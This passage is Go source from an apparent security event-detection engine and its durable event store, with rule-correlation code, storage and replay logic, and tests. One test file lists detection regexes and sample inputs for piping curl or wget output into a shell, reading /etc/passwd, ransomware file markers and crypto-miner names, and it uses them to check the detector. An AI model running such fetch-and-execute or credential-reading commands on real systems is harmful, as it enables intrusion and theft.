			}
		}
	}
	return fired
}

// ProcessBatch evaluates events in order and returns all alerts fired,
// in firing order. Batching amortizes per-call overhead on replay and
// high-rate ingest paths.
func (en *Engine) ProcessBatch(events []trace.Event) []Alert {
	var fired []Alert
	for i := range events {
		fired = append(fired, en.process(&events[i])...)
	}
	return fired
}

// evalRule routes one candidate rule. Stateless matching happens
// lock-free; only stateful threshold/sequence tracking takes the
// owning shard's lock.
func (en *Engine) evalRule(r *Rule, e *trace.Event) (Alert, bool) {
	if len(r.Sequence) > 0 {
		return en.evalSequence(r, e)
	}
	if !matchAll(r.Conditions, e) {
		return Alert{}, false
	}
	if r.Threshold == nil {
		return en.mkAlert(r, e, "", 1), true
	}
	group := ""
	if r.Threshold.GroupBy != "" {
		group = FieldValue(e, r.Threshold.GroupBy)
	}
	sh := en.shardFor(r.ID, group)
	var kb [128]byte
	key := stateKey(kb[:0], r.ID, group)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	st := sh.thresholds[string(key)] // alloc-free lookup form
	if st == nil {
		st = &threshState{}
		sh.thresholds[string(key)] = st // new group: key string allocated once
	}
	now := e.Time
	times := st.times
	fresh := times[:0]
	for _, t := range times {
		if r.Threshold.Window == 0 || now.Sub(t) <= r.Threshold.Window {
			fresh = append(fresh, t)
		}
	}
	fresh = append(fresh, now)
	st.times = fresh
	if len(fresh) >= r.Threshold.Count {
		st.times = st.times[:0] // reset after firing, keeping capacity
		return en.mkAlert(r, e, group, len(fresh)), true
	}
	return Alert{}, false
}

func (en *Engine) evalSequence(r *Rule, e *trace.Event) (Alert, bool) {
	group := ""
	switch {
	case r.Threshold != nil && r.Threshold.GroupBy != "":
		group = FieldValue(e, r.Threshold.GroupBy)
	case (e.Kind == trace.KindAuth || e.Kind == trace.KindHTTP || e.Kind == trace.KindConn) && e.SrcIP != "":
		// Auth/transport events key on the *source*: a guessing
		// campaign targets many accounts from one address.
		group = e.SrcIP
	case e.User != "":
		group = e.User
	default:
		group = e.SrcIP
	}
	sh := en.shardFor(r.ID, group)
	var kb [128]byte
	key := stateKey(kb[:0], r.ID, group)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	st := sh.sequences[string(key)] // alloc-free lookup form
	if st == nil {
		st = &seqState{}
		sh.sequences[string(key)] = st // new group: key string allocated once
	}
	stage := &r.Sequence[st.stage]
	if stage.Within > 0 && st.stage > 0 && e.Time.Sub(st.lastTime) > stage.Within {
		// Too slow: restart the sequence at stage 0.
		st.stage = 0
		stage = &r.Sequence[0]
	}
	if !matchAll(stage.Conditions, e) {
		// A non-matching event does not reset progress (attackers
		// interleave benign traffic), it is simply ignored.
		return Alert{}, false
	}
	st.stage++
	st.lastTime = e.Time
	if st.stage >= len(r.Sequence) {
		st.stage = 0
		return en.mkAlert(r, e, group, len(r.Sequence)), true
	}
	return Alert{}, false
}

func (en *Engine) mkAlert(r *Rule, e *trace.Event, group string, count int) Alert {
	return Alert{
		RuleID: r.ID, Class: r.Class, Severity: r.Severity,
		Description: r.Description, Time: e.Time, Group: group,
		Trigger: e.Clone(), Count: count,
	}
}

// Alerts returns all alerts fired so far in firing order. After
// concurrent processing, order across groups is nondeterministic —
// use SortAlerts for stable output.
func (en *Engine) Alerts() []Alert {
	en.alertsMu.Lock()
	defer en.alertsMu.Unlock()
	out := make([]Alert, len(en.alerts))
	copy(out, en.alerts)
	return out
}

// AlertsByClass groups fired alerts by taxonomy class.
func (en *Engine) AlertsByClass() map[string][]Alert {
	m := map[string][]Alert{}
	for _, a := range en.Alerts() {
		m[a.Class] = append(m[a.Class], a)
	}
	return m
}

// Reset clears alert and correlation state, keeping rules.
func (en *Engine) Reset() {
	for i := range en.shards {
		sh := &en.shards[i]
		sh.mu.Lock()
		sh.thresholds = map[string]*threshState{}
		sh.sequences = map[string]*seqState{}
		sh.mu.Unlock()
	}
	en.alertsMu.Lock()
	en.alerts = nil
	en.alertsMu.Unlock()
	en.evaluated.Store(0)
}

// MarshalRules serializes rules to the JSON exchange format.
func MarshalRules(rs []*Rule) ([]byte, error) {
	return json.MarshalIndent(rs, "", "  ")
}

// UnmarshalRules parses the JSON exchange format and compiles rules.
func UnmarshalRules(data []byte) ([]*Rule, error) {
	var rs []*Rule
	if err := json.Unmarshal(data, &rs); err != nil {
		return nil, fmt.Errorf("rules: parse: %w", err)
	}
	for i, r := range rs {
		if r == nil {
			return nil, fmt.Errorf("rules: entry %d is null", i)
		}
		if err := r.Compile(); err != nil {
			return nil, err
		}
	}
	return rs, nil
}

// SortAlerts orders alerts by time then rule id, for stable reports.
func SortAlerts(alerts []Alert) {
	sort.Slice(alerts, func(i, j int) bool {
		if !alerts[i].Time.Equal(alerts[j].Time) {
			return alerts[i].Time.Before(alerts[j].Time)
		}
		return alerts[i].RuleID < alerts[j].RuleID
	})
}
