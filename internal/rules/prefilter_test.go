package rules

import (
	"regexp"
	"testing"

	"repro/internal/trace"
)

// TestRequiredLiteralsExtraction checks the guard derived from
// representative shipped patterns.
func TestRequiredLiteralsExtraction(t *testing.T) {
	cases := []struct {
		pattern string
		want    []litHint // nil = no guard expected
	}{
		{`encrypt\s*\(`, []litHint{{lit: "encrypt"}}},
		{`b64encode\s*\(`, []litHint{{lit: "b64encode"}}},
		{`^(create|write)$`, []litHint{{lit: "create"}, {lit: "write"}}},
		{`(curl|wget).*(\||;|&&).*(sh|bash|python)`, []litHint{{lit: "curl"}, {lit: "wget"}}},
		{`^/api/`, []litHint{{lit: "/api/"}}},
		{`\.(locked|enc|crypt|encrypted)$`, []litHint{
			{lit: "locked"}, {lit: "enc"}, {lit: "crypt"}, {lit: "encrypted"}}},
		{`(?i)(xmrig|minerd)`, []litHint{{lit: "xmrig", fold: true}, {lit: "minerd", fold: true}}},
		// No provable literal: class-only, optional-only, or folded
		// non-ASCII patterns must fall back to the bare regexp.
		{`[0-9]+`, nil},
		{`(abc)?`, nil},
		{`a|[0-9]`, nil},
		{`(?i)ünïcode`, nil},
		{`x`, nil}, // below the 2-byte floor
	}
	for _, tc := range cases {
		got := requiredLiterals(tc.pattern)
		if len(got) != len(tc.want) {
			t.Errorf("%q: hints %+v, want %+v", tc.pattern, got, tc.want)
			continue
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Errorf("%q: hint[%d] = %+v, want %+v", tc.pattern, i, got[i], tc.want[i])
			}
		}
	}
}

// TestPrefilterAgreesWithRegexp runs every guarded pattern against
// inputs chosen to stress the guard boundary (near-miss literals,
// case variants, fold edge cases) and demands bit-identical verdicts
// with the unguarded regexp.
func TestPrefilterAgreesWithRegexp(t *testing.T) {
	patterns := []string{
		`encrypt\s*\(`,
		`b64encode\s*\(`,
		`^(create|write)$`,
		`(?i)(readme.*(ransom|decrypt|restore)|ransom|how_to_recover)`,
		`\.(locked|enc|crypt|encrypted)$`,
		`(?i)(stratum\+tcp|xmrig|minerd|cryptonight|pool\.min)`,
		`^/api/`,
		`^(whoami|id|uname|nproc|cat /etc/passwd)`,
		`(curl|wget).*(\||;|&&).*(sh|bash|python)`,
	}
	inputs := []string{
		"",
		"import pandas as pd",
		"encrypt(data)",
		"encrypt (data)",
		"ENCRYPT(data)", // case miss for case-sensitive pattern
		"deencrypted",
		"x = b64encode(body)",
		"b64decode(body)",
		"create", "created", "write", "rewrite",
		"README_RANSOM.txt", "readme how to restore files",
		"notes.enc", "notes.encrypted", "notes.enc.bak",
		"stratum+tcp://pool", "XMRig --threads 4", "pool.minexmr.com",
		"/api/kernels", "/apifront", "prefix/api/",
		"whoami", "id", "uname -a", "cat /etc/passwd", "guid",
		"curl http://x | sh", "wget x && bash", "curl x",
		"results/output-17.csv",
		"KKelvin xmrig", // Kelvin sign near a folded literal
	}
	for _, p := range patterns {
		re := regexp.MustCompile(p)
		c := Condition{Field: "code", Regex: p}
		if err := c.compile(); err != nil {
			t.Fatalf("%q: %v", p, err)
		}
		for _, in := range inputs {
			e := trace.Event{Kind: trace.KindExec, Code: in}
			if got, want := c.Match(&e), re.MatchString(in); got != want {
				t.Errorf("pattern %q input %q: guarded=%v bare=%v (hints %+v)",
					p, in, got, want, c.hints)
			}
		}
	}
}

// BenchmarkRegexCondition measures the guard's effect on the benign
// fast path (no literal present, regexp never consulted).
func BenchmarkRegexCondition(b *testing.B) {
	e := trace.Event{Kind: trace.KindExec,
		Code: "df = pd.read_csv('data.csv'); df.groupby('user').agg({'bytes': 'sum'})"}
	guarded := Condition{Field: "code", Regex: `(curl|wget).*(\||;|&&).*(sh|bash|python)`}
	if err := guarded.compile(); err != nil {
		b.Fatal(err)
	}
	bare := guarded
	bare.hints = nil
	b.Run("guarded", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if guarded.Match(&e) {
				b.Fatal("unexpected match")
			}
		}
	})
	b.Run("bare", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if bare.Match(&e) {
				b.Fatal("unexpected match")
			}
		}
	})
}
