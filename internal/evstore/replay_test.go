package evstore

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"sync"
	"testing"
	"time"

	"repro/internal/trace"
)

// writeMixed fills a store with a deterministic multi-actor,
// multi-kind stream in two time phases: phase one is exec/file_op
// traffic, phase two is auth/scan_finding traffic, so kind and time
// filters can each prune whole segments.
func writeMixed(t *testing.T, dir string, perPhase int) {
	t.Helper()
	writeMixedOpts(t, dir, Options{SegmentBytes: 4096, FlushEvery: 16}, perPhase)
}

// writeMixedOpts is writeMixed with explicit store options, so codec
// variants can reuse the same stream shape.
func writeMixedOpts(t *testing.T, dir string, opts Options, perPhase int) {
	t.Helper()
	s, err := Open(dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	seq := uint64(0)
	stamp := func(e trace.Event, at time.Time) trace.Event {
		seq++
		e.Seq = seq
		e.Time = at
		return e
	}
	for i := 0; i < perPhase; i++ {
		at := base.Add(time.Duration(i) * time.Second)
		kind := trace.KindExec
		if i%3 == 0 {
			kind = trace.KindFileOp
		}
		if err := s.Append(stamp(trace.Event{
			Kind: kind, User: fmt.Sprintf("user%d", i%5), Op: "write",
		}, at)); err != nil {
			t.Fatal(err)
		}
	}
	phase2 := base.Add(24 * time.Hour)
	for i := 0; i < perPhase; i++ {
		at := phase2.Add(time.Duration(i) * time.Second)
		e := trace.Event{Kind: trace.KindAuth, SrcIP: fmt.Sprintf("10.0.0.%d", i%5), Op: "deny"}
		if i%4 == 0 {
			e = trace.Event{Kind: trace.KindScanFinding, User: fmt.Sprintf("target%d", i%5),
				Fields: map[string]string{"check": "JPY-001"}}
		}
		if err := s.Append(stamp(e, at)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
}

func scanFiltered(t *testing.T, s *Store, f Filter) []trace.Event {
	t.Helper()
	var out []trace.Event
	if _, err := s.Scan(f, func(e trace.Event) error {
		out = append(out, e)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestFilterMatch(t *testing.T) {
	at := time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)
	e := trace.Event{Kind: trace.KindAuth, SrcIP: "10.0.0.9", User: "alice", Time: at}
	cases := []struct {
		name string
		f    Filter
		want bool
	}{
		{"zero filter", Filter{}, true},
		{"kind hit", Filter{Kinds: []trace.Kind{trace.KindExec, trace.KindAuth}}, true},
		{"kind miss", Filter{Kinds: []trace.Kind{trace.KindExec}}, false},
		// Auth events shard by source address, not user — the actor
		// filter must agree with trace.ActorKey.
		{"actor hit", Filter{Actor: "10.0.0.9"}, true},
		{"actor miss", Filter{Actor: "alice"}, false},
		{"since inclusive", Filter{Since: at}, true},
		{"since after", Filter{Since: at.Add(time.Second)}, false},
		{"until inclusive", Filter{Until: at}, true},
		{"until before", Filter{Until: at.Add(-time.Second)}, false},
	}
	for _, tc := range cases {
		if got := tc.f.Match(e); got != tc.want {
			t.Errorf("%s: Match = %v, want %v", tc.name, got, tc.want)
		}
	}
}

func TestIndexPrunesSegments(t *testing.T) {
	dir := t.TempDir()
	writeMixed(t, dir, 400)
	s, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	total := len(s.Segments())
	if total < 4 {
		t.Fatalf("need several segments, got %d", total)
	}

	// Phase-two kinds live only in later segments: the index must rule
	// the phase-one segments out without decoding them.
	var n int
	stats, err := s.Scan(Filter{Kinds: []trace.Kind{trace.KindScanFinding}}, func(trace.Event) error {
		n++
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if n != 100 {
		t.Fatalf("kind filter matched %d events, want 100", n)
	}
	if stats.SegmentsSelected >= total {
		t.Fatalf("kind filter selected all %d segments; index pruned nothing", total)
	}
	if stats.Decoded >= 800 {
		t.Fatalf("kind filter decoded %d of 800 frames; segment skip ineffective", stats.Decoded)
	}

	// A time window over phase one only must skip phase-two segments.
	stats, err = s.Scan(Filter{
		Until: time.Date(2026, 6, 1, 23, 0, 0, 0, time.UTC),
	}, func(trace.Event) error { return nil })
	if err != nil {
		t.Fatal(err)
	}
	if stats.Events != 400 {
		t.Fatalf("time filter matched %d, want 400", stats.Events)
	}
	if stats.SegmentsSelected >= total {
		t.Fatal("time filter selected every segment; index pruned nothing")
	}

	// An actor filter prunes segments whose actor index misses it.
	stats, err = s.Scan(Filter{Actor: "10.0.0.1"}, func(trace.Event) error { return nil })
	if err != nil {
		t.Fatal(err)
	}
	if stats.Events == 0 {
		t.Fatal("actor filter matched nothing")
	}
	if stats.SegmentsSelected >= total {
		t.Fatal("actor filter selected every segment; index pruned nothing")
	}
}

// TestReplayShardedMatchesScan pins the replay contract: any worker
// count delivers exactly the filtered event set, and each actor's
// events arrive at one worker in append order.
func TestReplayShardedMatchesScan(t *testing.T) {
	dir := t.TempDir()
	writeMixed(t, dir, 500)
	s, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	filters := []Filter{
		{},
		{Kinds: []trace.Kind{trace.KindAuth, trace.KindScanFinding}},
		{Actor: "user2"},
		{Since: time.Date(2026, 6, 2, 0, 0, 0, 0, time.UTC)},
	}
	for fi, f := range filters {
		want := scanFiltered(t, s, f)
		for _, workers := range []int{2, 4, 8} {
			var mu sync.Mutex
			perActor := map[string][]uint64{}
			total := 0
			stats, err := s.Replay(f, workers, 64, func(batch []trace.Event) {
				mu.Lock()
				defer mu.Unlock()
				total += len(batch)
				for _, e := range batch {
					a := trace.ActorKey(e)
					perActor[a] = append(perActor[a], e.Seq)
				}
			})
			if err != nil {
				t.Fatal(err)
			}
			if total != len(want) {
				t.Fatalf("filter %d workers=%d: replayed %d events, scan found %d", fi, workers, total, len(want))
			}
			if stats.Events != int64(len(want)) {
				t.Fatalf("filter %d workers=%d: stats.Events=%d, want %d", fi, workers, stats.Events, len(want))
			}
			for actor, seqs := range perActor {
				for i := 1; i < len(seqs); i++ {
					if seqs[i] <= seqs[i-1] {
						t.Fatalf("filter %d workers=%d: actor %s replayed out of order: %v", fi, workers, actor, seqs)
					}
				}
			}
		}
	}
}

func TestReplayReportsTailLoss(t *testing.T) {
	dir := t.TempDir()
	writeMixed(t, dir, 200)
	s, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	segs := s.Segments()
	// Graft garbage onto a sealed middle segment: replay must still
	// deliver every indexed event and report the corrupt tail instead
	// of erroring out or looping.
	victim := segs[len(segs)/2]
	f, err := os.OpenFile(victim.Path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte("XXXXXXXXXXXXXXXX")); err != nil {
		t.Fatal(err)
	}
	f.Close()

	for _, workers := range []int{1, 4} {
		n := 0
		var mu sync.Mutex
		stats, err := s.Replay(Filter{}, workers, 64, func(b []trace.Event) {
			mu.Lock()
			n += len(b)
			mu.Unlock()
		})
		if err != nil {
			t.Fatal(err)
		}
		if n != 400 {
			t.Fatalf("workers=%d: replayed %d events, want 400", workers, n)
		}
		if stats.TailLossBytes != 16 {
			t.Fatalf("workers=%d: tail loss %d bytes, want 16", workers, stats.TailLossBytes)
		}
	}
}

// TestReplayArenaAllocationsScaleWithSegments pins the tentpole perf
// claim at the store layer: a serial binary-store replay performs
// O(segments) heap allocations, not O(events × string fields). The
// bound is generous (64 allocations per segment) so the test survives
// runtime-version drift while still failing loudly if per-event
// string allocations ever creep back into the decode path.
func TestReplayArenaAllocationsScaleWithSegments(t *testing.T) {
	dir := t.TempDir()
	// Small segments force a real multi-segment pass; 4000 events with
	// repeated strings engage the dictionary, unique suffixes keep some
	// inline traffic flowing through the arena.
	s, err := Open(dir, Options{SegmentBytes: 32 << 10, Codec: CodecBinary})
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2026, 6, 2, 8, 0, 0, 0, time.UTC)
	for i := 0; i < 4000; i++ {
		if err := s.Append(trace.Event{
			Seq: uint64(i + 1), Time: base.Add(time.Duration(i) * time.Second),
			Kind: trace.KindExec, User: fmt.Sprintf("user%d", i%7),
			Path: fmt.Sprintf("/nb/%d.ipynb", i%11),
			Code: fmt.Sprintf("print(%d) # unique-inline-padding-%d", i, i),
		}); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	rs, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer rs.Close()
	segs := len(rs.Segments())
	if segs < 3 {
		t.Fatalf("want a multi-segment store, got %d segments", segs)
	}

	var events int64
	replay := func() {
		events = 0
		if _, err := rs.Replay(Filter{}, 1, 256, func(b []trace.Event) {
			events += int64(len(b))
		}); err != nil {
			t.Fatal(err)
		}
	}
	replay() // warm OS/file caches and the testing runtime
	var m0, m1 runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m0)
	replay()
	runtime.ReadMemStats(&m1)
	if events != 4000 {
		t.Fatalf("replayed %d events, want 4000", events)
	}
	allocs := m1.Mallocs - m0.Mallocs
	if allocs > uint64(64*segs) {
		t.Fatalf("serial replay allocated %d times for %d segments (%d events); want O(segments)",
			allocs, segs, events)
	}
}

// TestReplayArenaMatchesScanExactly is the store-layer differential:
// the arena-backed Replay (serial and sharded) must deliver exactly
// the events the copying Scan delivers, byte-identical under JSON
// re-encoding, across both codecs and a filtered pass.
func TestReplayArenaMatchesScanExactly(t *testing.T) {
	for _, codec := range []Codec{CodecBinary, CodecJSON} {
		dir := t.TempDir()
		writeMixedOpts(t, dir, Options{SegmentBytes: 4096, FlushEvery: 16, Codec: codec}, 300)
		s, err := OpenRead(dir)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range []Filter{{}, {Kinds: []trace.Kind{trace.KindAuth}}} {
			want := map[uint64]string{}
			for _, e := range scanFiltered(t, s, f) {
				j, _ := json.Marshal(e)
				want[e.Seq] = string(j)
			}
			for _, workers := range []int{1, 8} {
				got := map[uint64]string{}
				var mu sync.Mutex
				if _, err := s.Replay(f, workers, 64, func(b []trace.Event) {
					mu.Lock()
					for _, e := range b {
						j, _ := json.Marshal(e)
						got[e.Seq] = string(j)
					}
					mu.Unlock()
				}); err != nil {
					t.Fatal(err)
				}
				if len(got) != len(want) {
					t.Fatalf("codec=%s workers=%d: got %d events, want %d", codec, workers, len(got), len(want))
				}
				for seq, j := range want {
					if got[seq] != j {
						t.Fatalf("codec=%s workers=%d seq=%d:\n got %s\nwant %s", codec, workers, seq, got[seq], j)
					}
				}
			}
		}
		s.Close()
	}
}
