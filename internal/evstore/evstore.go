// Package evstore is the durable storage layer of the event pipeline:
// an append-only, segment-rotated event log with CRC-checked frames
// and a per-segment sidecar index (kinds, actors, sequence range,
// time window) that lets a filtered replay skip whole segments
// without reading them. It replaces the ad-hoc flat JSONL files the
// CLI tools used to exchange, decoupling retention and replay cost
// from trace size: segments stream one frame at a time, replay
// parallelizes across actor shards with per-segment readers, and
// Compact drops the oldest segments once they age out.
//
// Durability contract: frames are buffered and flushed every
// FlushEvery events (and on rotation and Close); the sidecar is
// written only after the segment data is flushed, so a present
// sidecar always describes a cleanly sealed segment. A torn tail from
// a crash is truncated on the next Open and surfaced via Recovered —
// never silently replayed, never appended after.
package evstore

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"repro/internal/trace"
)

// Options tunes a store. Zero values pick the defaults.
type Options struct {
	// SegmentBytes is the rotation threshold: once a segment's valid
	// data reaches it, the segment is sealed and a new one started.
	// Default 4 MiB.
	SegmentBytes int64
	// FlushEvery is how many appended events may sit in the write
	// buffer before it is flushed to the OS. Default 128.
	FlushEvery int
	// MaxActors caps the per-segment actor index; a segment seeing
	// more distinct actors is marked overflowed and matches any actor
	// filter. Default 256.
	MaxActors int
	// Codec selects the segment format NEW segments are written in:
	// CodecBinary (v2, the default) or CodecJSON (v1). Reading is
	// always version-dispatched per segment from its magic, so a
	// store may freely mix segments of both formats.
	Codec Codec
}

func (o Options) withDefaults() Options {
	if o.SegmentBytes <= 0 {
		o.SegmentBytes = 4 << 20
	}
	if o.FlushEvery <= 0 {
		o.FlushEvery = 128
	}
	if o.MaxActors <= 0 {
		o.MaxActors = 256
	}
	if o.Codec == "" {
		o.Codec = CodecBinary
	}
	return o
}

// SegmentInfo describes one sealed, readable segment.
type SegmentInfo struct {
	N     int // segment number; replay order is ascending N
	Path  string
	Index Index
}

// TailLoss records corruption found and truncated during Open.
type TailLoss struct {
	Segment   string
	LostBytes int64
	Reason    string
}

// Store is an event log rooted at one directory. It implements
// trace.Sink (Emit records the first append failure, exposed via Err,
// mirroring JSONLWriter), so it drops into any pipeline slot a JSONL
// writer occupied. Append/Emit are safe for concurrent use; the
// append order is the replay order.
type Store struct {
	dir      string
	opts     Options
	readOnly bool

	mu        sync.Mutex
	sealed    []SegmentInfo
	nextN     int
	cur       *segmentWriter
	recovered []TailLoss
	err       error // first append/seal failure; sticky
}

type segmentWriter struct {
	f         *os.File
	enc       *binEncoder // per-segment binary state; nil for CodecJSON
	pending   []byte      // buffered frames not yet written through
	info      SegmentInfo
	actors    map[string]struct{}
	unflushed int
}

// Open creates or opens a store directory for appending. Existing
// segments are validated: a missing or unreadable sidecar is rebuilt
// by scanning the data, and the newest segment — the only one a
// crashed writer can have torn — is truncated at its first bad frame,
// with the loss reported by Recovered. Appends always start a fresh
// segment, so recovery never rewrites sealed history.
//
// Open is a writer's entry point and its recovery mutates the store;
// consumers that only read must use OpenRead, which never writes.
func Open(dir string, opts Options) (*Store, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("evstore: %w", err)
	}
	return open(dir, opts, false)
}

// OpenRead opens an existing store without ever mutating it: missing
// sidecars are rebuilt in memory only and a torn newest segment is
// reported via Recovered but not truncated (readers stop at the first
// bad frame regardless). This is what replay/export tools must use —
// a reader that wrote a sidecar for a live writer's active segment
// would freeze a stale index and mask the writer's own crash
// recovery, since a present sidecar certifies a cleanly sealed
// segment. Append and Compact on a read-only store fail.
func OpenRead(dir string) (*Store, error) {
	if st, err := os.Stat(dir); err != nil {
		return nil, fmt.Errorf("evstore: %w", err)
	} else if !st.IsDir() {
		return nil, fmt.Errorf("evstore: %s is not a store directory", dir)
	}
	return open(dir, Options{}, true)
}

func open(dir string, opts Options, readOnly bool) (*Store, error) {
	opts = opts.withDefaults()
	if opts.Codec != CodecBinary && opts.Codec != CodecJSON {
		return nil, fmt.Errorf("evstore: unknown codec %q", opts.Codec)
	}
	paths, err := filepath.Glob(filepath.Join(dir, "seg-*.ev"))
	if err != nil {
		return nil, fmt.Errorf("evstore: %w", err)
	}
	type numbered struct {
		n    int
		path string
	}
	var segs []numbered
	for _, p := range paths {
		var n int
		if _, err := fmt.Sscanf(filepath.Base(p), "seg-%d.ev", &n); err != nil {
			continue // not ours
		}
		segs = append(segs, numbered{n, p})
	}
	sort.Slice(segs, func(i, j int) bool { return segs[i].n < segs[j].n })

	s := &Store{dir: dir, opts: opts, readOnly: readOnly, nextN: 1}
	for i, seg := range segs {
		info := SegmentInfo{N: seg.n, Path: seg.path}
		ix, ok := loadIndex(indexPath(seg.path))
		if ok {
			info.Index = ix
		} else {
			rebuilt, res, err := rebuildIndex(seg.path, opts.MaxActors)
			if err != nil {
				return nil, fmt.Errorf("evstore: rebuild %s: %w", seg.path, err)
			}
			if res.Truncated && i == len(segs)-1 {
				// Only the newest segment can hold a torn append from
				// a crashed writer. A writer cuts it off so new frames
				// never land after garbage; a reader just reports it.
				if !readOnly {
					if err := os.Truncate(seg.path, res.ValidBytes); err != nil {
						return nil, fmt.Errorf("evstore: truncate %s: %w", seg.path, err)
					}
				}
				s.recovered = append(s.recovered, TailLoss{
					Segment: seg.path, LostBytes: res.TailLossBytes, Reason: res.Reason,
				})
			}
			if !readOnly {
				if err := writeIndex(indexPath(seg.path), rebuilt); err != nil {
					return nil, fmt.Errorf("evstore: %w", err)
				}
			}
			info.Index = rebuilt
		}
		s.sealed = append(s.sealed, info)
		s.nextN = seg.n + 1
	}
	return s, nil
}

// Dir returns the store's root directory.
func (s *Store) Dir() string { return s.dir }

// Recovered reports any corrupt tails truncated while opening.
func (s *Store) Recovered() []TailLoss {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]TailLoss(nil), s.recovered...)
}

// Segments returns the sealed, readable segments in replay order. The
// active segment (appends since Open) is excluded until sealed by
// rotation or Close.
func (s *Store) Segments() []SegmentInfo {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]SegmentInfo(nil), s.sealed...)
}

// Events returns the total events across sealed segments.
func (s *Store) Events() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, seg := range s.sealed {
		n += seg.Index.Events
	}
	return n
}

// StoreStats summarizes a store's on-disk shape from the sidecar
// indexes alone — segment and event totals, bytes, the codec mix, and
// any bytes lost to tail corruption at open. It costs O(segments),
// never touches segment data, and is what an operator sizes retention
// tiers from.
type StoreStats struct {
	Segments           int
	Events             int
	Bytes              int64
	Codecs             map[string]int // sealed segments per codec name
	RecoveredLossBytes int64
}

// Stats reports the store's current on-disk summary. Only sealed
// segments count; the active segment is excluded until rotation or
// Close, like Segments.
func (s *Store) Stats() StoreStats {
	s.mu.Lock()
	defer s.mu.Unlock()
	st := StoreStats{Codecs: map[string]int{}}
	for _, seg := range s.sealed {
		st.Segments++
		st.Events += seg.Index.Events
		st.Bytes += seg.Index.Bytes
		codec := seg.Index.Codec
		if codec == "" {
			// Sidecars written before the codec field existed describe
			// v1 JSON segments; readers trust the magic anyway.
			codec = string(CodecJSON)
		}
		st.Codecs[codec]++
	}
	for _, loss := range s.recovered {
		st.RecoveredLossBytes += loss.LostBytes
	}
	return st
}

// Render formats the stats as one deterministic line (codec names
// sorted), for the CLI store-stats output.
func (st StoreStats) Render() string {
	names := make([]string, 0, len(st.Codecs))
	for name := range st.Codecs {
		names = append(names, name)
	}
	sort.Strings(names)
	parts := make([]string, 0, len(names))
	for _, name := range names {
		parts = append(parts, fmt.Sprintf("%s:%d", name, st.Codecs[name]))
	}
	mix := strings.Join(parts, ",")
	if mix == "" {
		mix = "none"
	}
	return fmt.Sprintf("segments=%d events=%d bytes=%d codecs=%s recovered-loss-bytes=%d",
		st.Segments, st.Events, st.Bytes, mix, st.RecoveredLossBytes)
}

// Append adds one event to the log.
func (s *Store) Append(e trace.Event) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	if err := s.append(e); err != nil {
		s.err = err
		return err
	}
	return nil
}

// AppendBatch adds a batch of events under one lock acquisition —
// the batch-at-a-time write path for replay-to-store conversion and
// high-rate sinks. Frames are encoded back to back into the shared
// pending buffer and written through on the usual FlushEvery cadence.
func (s *Store) AppendBatch(events []trace.Event) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	for _, e := range events {
		if err := s.append(e); err != nil {
			s.err = err
			return err
		}
	}
	return nil
}

// Emit implements trace.Sink; the first failure is sticky and
// reported by Err.
func (s *Store) Emit(e trace.Event) { _ = s.Append(e) }

// Err returns the first append or seal error, or nil.
func (s *Store) Err() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.err
}

func (s *Store) append(e trace.Event) error {
	if s.readOnly {
		return fmt.Errorf("evstore: store opened read-only")
	}
	if s.cur == nil {
		w, err := s.openSegment()
		if err != nil {
			return err
		}
		s.cur = w
	}
	w := s.cur
	start := len(w.pending)
	if w.enc != nil {
		pending, err := w.enc.appendEvent(w.pending, e)
		if err != nil {
			return err
		}
		w.pending = pending
	} else {
		payload, err := json.Marshal(e)
		if err != nil {
			return fmt.Errorf("evstore: encode: %w", err)
		}
		if len(payload) > maxFrame {
			return fmt.Errorf("evstore: event of %d bytes exceeds frame limit", len(payload))
		}
		w.pending = binary.LittleEndian.AppendUint32(w.pending, uint32(len(payload)))
		w.pending = binary.LittleEndian.AppendUint32(w.pending, crc32.ChecksumIEEE(payload))
		w.pending = append(w.pending, payload...)
	}
	// frameBytes covers everything this event put on the wire,
	// including any v2 dictionary frames it introduced, keeping the
	// Index.Bytes == valid-file-length invariant.
	w.info.Index.observe(e, int64(len(w.pending)-start), w.actors, s.opts.MaxActors)
	w.unflushed++
	if w.unflushed >= s.opts.FlushEvery {
		if err := s.flushCur(); err != nil {
			return err
		}
	}
	if w.info.Index.Bytes >= s.opts.SegmentBytes {
		return s.sealCur()
	}
	return nil
}

func (s *Store) openSegment() (*segmentWriter, error) {
	n := s.nextN
	path := filepath.Join(s.dir, fmt.Sprintf("seg-%08d.ev", n))
	f, err := os.OpenFile(path, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
	if err != nil {
		return nil, fmt.Errorf("evstore: %w", err)
	}
	magic := segMagic
	var enc *binEncoder
	if s.opts.Codec == CodecBinary {
